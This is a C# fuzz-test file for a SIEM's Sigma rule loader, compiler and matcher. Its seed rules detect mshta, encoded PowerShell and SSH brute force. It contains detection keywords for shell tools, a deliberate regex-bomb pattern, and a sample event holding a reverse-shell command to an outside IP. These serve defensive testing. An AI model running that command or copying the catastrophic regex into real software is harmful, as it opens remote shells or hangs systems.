using Siem.Core.Events;
using Siem.Rules;

namespace Siem.Host.Fuzz;

/// <summary>
/// The Sigma loader and compiler fed mutated rule files (detection rules with modifiers, keyword lists, filters and a
/// correlation rule). Promises checked: <see cref="RuleLoader.LoadYaml"/> never throws (a broken document becomes a
/// <see cref="RuleLoadError"/> with file, line and column), <see cref="CompiledRuleSet.Compile"/> never throws (compile
/// errors are listed), and matching the compiled rules against sample events never throws and ends (regular
/// expressions run with a timeout, so a regex bomb costs a counted timeout, not a hang).
/// </summary>
internal sealed class SigmaFuzzTarget : FuzzTarget
{
    private static readonly string[] Seeds =
    [
        """
        title: Suspicious Shell Via Mshta
        id: 9e7a1a47-5c4f-4a0e-9a85-3c2a6a1b1c01
        status: test
        logsource:
            product: windows
            category: process_creation
        detection:
            selection_img:
                Image|endswith:
                    - '\mshta.exe'
                    - '\wscript.exe'
            selection_cli:
                CommandLine|contains|all:
                    - 'vbscript'
                    - 'Execute'
            selection_re:
                CommandLine|re: '(?i)(a+)+b'
            filter:
                ParentImage|startswith: 'C:\Program Files\'
            keywords:
                - 'powershell -enc'
                - 'IEX('
            condition: 1 of selection_* and not filter or keywords
        level: high
        """,
        """
        title: Login From Internal Range With Encoded Command
        id: 0b3f4f0e-2b51-4bd5-9d6c-7b3f0c6b2a11
        logsource:
            product: linux
            service: sshd
        detection:
            sel:
                source.ip|cidr:
                    - '10.0.0.0/8'
                    - '2001:db8::/32'
                user.name|windash: '-admin'
                message|base64offset|contains: 'bash -i'
                process.pid|gte: 100
                event.outcome: null
            condition: all of sel* and not 1 of them
        level: medium
        """,
        """
        title: SSH Brute Force From One Source
        id: 81e7a567-a87a-4a69-8c3a-cd004cd81081
        correlation:
            type: event_count
            rules:
                - ssh_failed
            group-by:
                - source.ip
            timespan: 5m
            condition:
                gte: 10
        level: high
        ---
        title: SSH Failed Login
        id: 44b5b532-0545-475e-971d-9a6fae663599
        name: ssh_failed
        logsource:
            product: linux
            service: sshd
        detection:
            selection:
                event.action: ssh_login
                event.outcome: failure
            condition: selection
        level: low
        ---
        title: Filter Admin Hosts
        filter:
            rules:
                - ssh_failed
            selection:
                host.name|fieldref: user.name
            condition: not selection
        logsource:
            product: linux
        """,
    ];

    private readonly List<LogEvent> _events = [Sample("C:\\Windows\\System32\\mshta.exe", "mshta vbscript:Execute(\"x\") " + new string('a', 40)), Sample("/usr/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")];
    private readonly List<SigmaRule> _matches = [];

    public override string Name => "sigma";
    public override string Description => "Sigma YAML loader and compiler (detection, filter and correlation documents), then matching sample events";

    public override void RunOne(FuzzMutator mutator)
    {
        string seed = Pick(mutator, Seeds);
        string yaml = mutator.Random.Next(8) == 0 ? seed : mutator.Mutate(seed, Pick(mutator, Seeds), 100_000);
        CurrentInput = yaml;
        var set = RuleLoader.LoadYaml(yaml, "fuzz.yml");
        Count(set.Errors.Count > 0 ? "documents_with_errors" : "loaded_clean");
        foreach (var error in set.Errors)
        {
            if (error.ToString()?.Contains("fuzz.yml", StringComparison.Ordinal) != true)
                throw new FuzzContractException($"a load error does not name the file: {error}");
        }
        var compiled = CompiledRuleSet.Compile(set);
        Count(compiled.CompileErrors.Count > 0 ? "compile_errors" : "compiled_clean");
        foreach (var e in _events)
        {
            _matches.Clear();
            compiled.Match(e, _matches);
            if (_matches.Count > 0) Count("matches");
        }
    }

    private static LogEvent Sample(string image, string commandLine)
    {
        var e = new LogEvent { RecordId = "fuzz-" + image.Length, Original = commandLine };
        e.Set("Image", image);
        e.Set("CommandLine", commandLine);
        e.Set("ParentImage", "C:\\Windows\\explorer.exe");
        e.Set(EcsFields.Message, commandLine);
        e.Set(EcsFields.SourceIp, "10.1.2.3");
        e.Set(EcsFields.UserName, "/admin");
        e.Set("process.pid", "4242");
        e.Set(EcsFields.HostName, "web1");
        return e;
    }
}
